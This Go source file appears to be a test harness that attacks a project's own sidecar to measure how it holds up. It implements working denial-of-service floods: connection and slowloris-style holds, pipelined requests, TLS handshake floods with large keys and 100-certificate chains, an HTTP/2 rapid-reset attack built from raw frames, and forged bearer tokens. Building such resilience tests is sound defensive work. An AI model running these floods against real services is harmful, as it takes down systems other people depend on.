// Package attack attacks a sidecar over the network as a stranger does: a program that knows
// no token and holds no valid certificate, at full speed, from as many addresses as it likes.
// TestAttack measures how much CPU time the sidecar spends, and whether health probes of others
// are still answered; `make attack` runs each attack for longer, and `make bench` and `make soak`
// run all of them.
//
// Each attack runs until its ctx ends, and waits for its goroutines.
package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Target is a sidecar to attack.
type Target struct {
	HTTP     string   // host:port of the HTTP API; empty: not attacked
	TLS      bool     // it needs HTTPS
	Reviews  bool     // a kube-apiserver reviews the tokens of its clients
	Join     string   // host:port of the join port; empty: not attacked
	Etcd     []string // host:port of both ports of etcd; empty: not attacked
	From     []net.IP
	Chain    tls.Certificate // with many certificates
	LargeKey tls.Certificate
	Bodies   [][]byte // of requests to join
}

// Attack is one way to attack.
type Attack struct {
	Name string
	// step is called again and again by each of workers goroutines; it returns how many
	// connections, handshakes, requests or streams it made.
	step    func(ctx context.Context, t Target, from net.IP) int
	workers int
	many    bool // from all addresses, not from the first few
	at      func(Target) bool
	first   int // of its addresses unless it is many: another attack may be held off
}

// few is how many addresses attack unless it is many.
const few = 6

// patience is how long a connection is kept.
const patience = 2 * time.Second

// beginPause is the time between the first steps of two goroutines. The probes that are measured are of this process: if
// thousands connect at one moment, a probe waits for them here, and not for the sidecar.
const beginPause = 500 * time.Microsecond

// All returns all attacks.
func All() []Attack {
	plain := func(t Target) bool { return t.HTTP != "" && !t.TLS }
	secured := func(t Target) bool { return t.HTTP != "" && t.TLS }
	join := func(t Target) bool { return t.Join != "" && !t.TLS }
	reviewed := func(t Target) bool { return secured(t) && t.Reviews }
	etcd := func(t Target) bool { return len(t.Etcd) > 0 && !t.TLS }
	out := []Attack{
		{"join port: requests without a token", requests, 8, true, join, 0},
		{"requests with 100 certificates", chainRequests, 8, false, secured, 0},
		{"connections that are closed at once", connect(httpPort), 8, false, plain, 0},
		{"connections that are closed at once, of thousands of addresses", connect(httpPort), 8, true, plain, 0},
		{"connections that stay open", hold, 2000, true, plain, 0},
		{"requests, many in one packet", pipelined, 64, false, plain, 0},
		{"TLS handshakes", handshake(httpPort, nil), 8, false, secured, 0},
		{"TLS handshakes, of thousands of addresses", handshake(httpPort, nil), 8, true, secured, 0},
		{"TLS handshakes with a large key", handshake(httpPort, largeKey), 8, false, secured, 0},
		{"streams of HTTP/2 that are reset at once", rapidReset, 16, false, secured, 0},
		{"join port: connections that are closed at once", connect(joinPort), 8, false, join, 0},
		{"join port: TLS handshakes, of thousands of addresses", handshake(joinPort, nil), 8, true, join, 0},
		{"join port: TLS handshakes with 100 certificates", handshake(joinPort, chained), 8, true, join, 0},
		{"etcd: connections that are closed at once", connect(etcdPort), 8, false, etcd, 0},
		{"etcd: TLS handshakes with 100 certificates", handshake(etcdPort, chained), 8, true, etcd, 0},
		{"requests with invented tokens, of thousands of addresses", inventedTokens, 64, true, reviewed, 0},
	}
	for i := range out {
		out[i].first = i * few
	}
	return out
}

// Fits reports whether the target serves the port and the protocol that a attacks.
func (a Attack) Fits(t Target) bool { return a.at(t) }

// Run attacks until ctx ends, and returns the sum of its steps' results.
func (a Attack) Run(ctx context.Context, t Target) int {
	from := t.From
	if !a.many {
		from = from[min(a.first, len(from)-few):][:few]
	}
	var next, done atomic.Int64
	var running sync.WaitGroup
	for i := range a.workers {
		running.Go(func() {
			pause := time.NewTimer(time.Duration(i) * beginPause)
			defer pause.Stop()
			await(ctx, pause)
			for ctx.Err() == nil {
				n := a.step(ctx, t, from[next.Add(1)%int64(len(from))])
				done.Add(int64(n))
			}
		})
	}
	running.Wait()
	return int(done.Load())
}

func chained(t Target) *tls.Certificate  { return &t.Chain }
func largeKey(t Target) *tls.Certificate { return &t.LargeKey }

func httpPort(t Target) string { return t.HTTP }
func joinPort(t Target) string { return t.Join }
func etcdPort(t Target) string { return t.Etcd[rand.IntN(len(t.Etcd))] } //nolint:gosec // no secret

func dial(ctx context.Context, from net.IP, to string) (net.Conn, error) {
	d := net.Dialer{Timeout: patience / 4, LocalAddr: &net.TCPAddr{IP: from}, KeepAlive: -1}
	conn, err := d.DialContext(ctx, "tcp", to)
	if err != nil {
		return nil, err
	}
	// A connection that ends with a reset leaves no port in use for a minute.
	_ = conn.(*net.TCPConn).SetLinger(0)
	// Else the sent data fills the queues of the loopback device, and packets of others are lost.
	_ = conn.(*net.TCPConn).SetWriteBuffer(16 << 10) //nolint:mnd // some packets
	return conn, conn.SetDeadline(time.Now().Add(patience))
}

// opened runs f with a connection.
func opened(ctx context.Context, from net.IP, to string, f func(net.Conn) int) int {
	conn, err := dial(ctx, from, to)
	if err != nil {
		return 0
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })()
	return f(conn)
}

func connect(port func(Target) string) func(context.Context, Target, net.IP) int {
	return func(ctx context.Context, t Target, from net.IP) int {
		return opened(ctx, from, port(t), func(net.Conn) int { return 1 })
	}
}

// hold opens connections, sends a request, and keeps them: the server waits for the next request. After a refusal it
// pauses, so that its address is not held off.
func hold(ctx context.Context, t Target, from net.IP) int {
	const keep = 2 * time.Minute
	done := opened(ctx, from, t.HTTP, func(conn net.Conn) int {
		end, limited := ctx.Deadline()
		if !limited {
			end = time.Now().Add(keep)
		}
		_ = conn.SetDeadline(end)
		if _, err := io.WriteString(conn, "GET /readyz HTTP/1.1\r\nHost:\r\n\r\n"); err != nil {
			return 0
		}
		answered, _ := io.Copy(io.Discard, conn) // until it is closed
		return min(1, int(answered))
	})
	pause := time.NewTimer(time.Second)
	defer pause.Stop()
	await(ctx, pause)
	return done
}

// pipelined sends requests without waiting for their responses.
func pipelined(ctx context.Context, t Target, from net.IP) int {
	const request, packet = "GET /readyz HTTP/1.1\r\nHost:\r\n\r\n", 64
	return opened(ctx, from, t.HTTP, func(conn net.Conn) int {
		return send(conn, []byte(strings.Repeat(request, packet)), packet)
	})
}

// send writes a packet again and again, reads the answers, and counts.
func send(conn net.Conn, packet []byte, each int) (sent int) {
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	reading.Go(func() { _, _ = io.Copy(io.Discard, conn) })
	for {
		if _, err := conn.Write(packet); err != nil {
			return sent
		}
		sent += each
	}
}

// stranger returns how a client without a valid certificate begins; certificate may be nil.
func stranger(certificate *tls.Certificate) *tls.Config {
	config := &tls.Config{InsecureSkipVerify: true} //nolint:gosec // an attacker does not care
	if certificate != nil {
		// Whatever the server asks for: Certificates would be held back if no CA of the server has issued them.
		config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return certificate, nil }
	}
	return config
}

func handshake(port func(Target) string, certificate func(Target) *tls.Certificate) func(context.Context, Target, net.IP) int {
	return func(ctx context.Context, t Target, from net.IP) int {
		return opened(ctx, from, port(t), func(conn net.Conn) int {
			var shown *tls.Certificate
			if certificate != nil {
				shown = certificate(t)
			}
			client := tls.Client(conn, stranger(shown))
			if client.HandshakeContext(ctx) != nil {
				return 0
			}
			if shown != nil { // the server checks it after that, and then sends or closes
				_, _ = client.Read(make([]byte, 1))
			}
			return 1
		})
	}
}

// chainRequests sends requests with a certificate that is expensive to check.
func chainRequests(ctx context.Context, t Target, from net.IP) int {
	return overTLS(ctx, t, from, &t.Chain, func() string { return "" })
}

// inventedTokens sends requests, each with another token.
func inventedTokens(ctx context.Context, t Target, from net.IP) int {
	return overTLS(ctx, t, from, nil, func() string { return "Authorization: Bearer " + inventedToken() + "\r\n" })
}

// inventedToken returns one whose signature a kube-apiserver checks, with each of its keys.
func inventedToken() string {
	part := base64.RawURLEncoding.EncodeToString
	claims := `{"iss":"https://kubernetes.default.svc","sub":"` + strconv.FormatUint(rand.Uint64(), 36) + `"}`    //nolint:gosec,mnd // no secret
	return part([]byte(`{"alg":"ES256"}`)) + "." + part([]byte(claims)) + "." + part(bytes.Repeat([]byte{1}, 64)) //nolint:mnd // of P-256
}

// overTLS sends requests in one connection, each with another header, and returns how many are answered.
func overTLS(ctx context.Context, t Target, from net.IP, certificate *tls.Certificate, header func() string) int {
	const count = 200
	return opened(ctx, from, t.HTTP, func(conn net.Conn) int {
		client := tls.Client(conn, stranger(certificate))
		if client.HandshakeContext(ctx) != nil {
			return 0
		}
		answers := bufio.NewReader(client)
		for answered := range count {
			_, err := io.WriteString(client, "GET /status HTTP/1.1\r\nHost: x\r\n"+header()+"\r\n")
			if err == nil {
				err = discardResponse(answers)
			}
			if err != nil {
				return answered
			}
		}
		return count
	})
}

func discardResponse(from *bufio.Reader) error {
	response, err := http.ReadResponse(from, nil)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	_, err = io.Copy(io.Discard, response.Body)
	return err
}

// rapidReset begins streams of HTTP/2 and resets each at once.
func rapidReset(ctx context.Context, t Target, from net.IP) int {
	return opened(ctx, from, t.HTTP, func(conn net.Conn) int {
		config := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}} //nolint:gosec // an attacker does not care
		client := tls.Client(conn, config)
		if client.HandshakeContext(ctx) != nil {
			return 0
		}
		if _, err := io.WriteString(client, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"); err != nil {
			return 0
		}
		return resets(client)
	})
}

const (
	frameHeaders, frameReset, frameSettings = 1, 3, 4
	endOfStreamAndHeaders                   = 5
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	out := []byte{0, 0, byte(len(payload)), kind, flags} // every payload here is shorter than 256 bytes
	return append(binary.BigEndian.AppendUint32(out, stream), payload...)
}

func resets(conn net.Conn) (sent int) {
	go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection, which the caller closes
	if _, err := conn.Write(frame(frameSettings, 0, 0, nil)); err != nil {
		return 0
	}
	// GET / of https, and :authority x, with the static table of HPACK.
	fields := []byte{0x82, 0x84, 0x87, 0x41, 1, 'x'}
	const batch = 64
	for stream := uint32(1); ; {
		var packet bytes.Buffer
		for range batch {
			packet.Write(frame(frameHeaders, endOfStreamAndHeaders, stream, fields))
			packet.Write(frame(frameReset, 0, stream, []byte{0, 0, 0, 8}))
			stream += 2
		}
		if _, err := conn.Write(packet.Bytes()); err != nil {
			return sent
		}
		sent += batch
	}
}

// requests asks to join.
func requests(ctx context.Context, t Target, from net.IP) int {
	return opened(ctx, from, t.Join, func(conn net.Conn) int {
		client := tls.Client(conn, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // an attacker does not care
		if client.HandshakeContext(ctx) != nil {
			return 0
		}
		body := t.Bodies[int(from[len(from)-1])%len(t.Bodies)]
		head := "POST /v1/cluster/join HTTP/1.1\r\nHost: x\r\nContent-Length: " + lengthOf(body) + "\r\n\r\n"
		if _, err := client.Write(append([]byte(head), body...)); err != nil {
			return 0
		}
		if _, err := client.Read(make([]byte, 1)); err != nil && !errors.Is(err, io.EOF) {
			return 0
		}
		return 1
	})
}
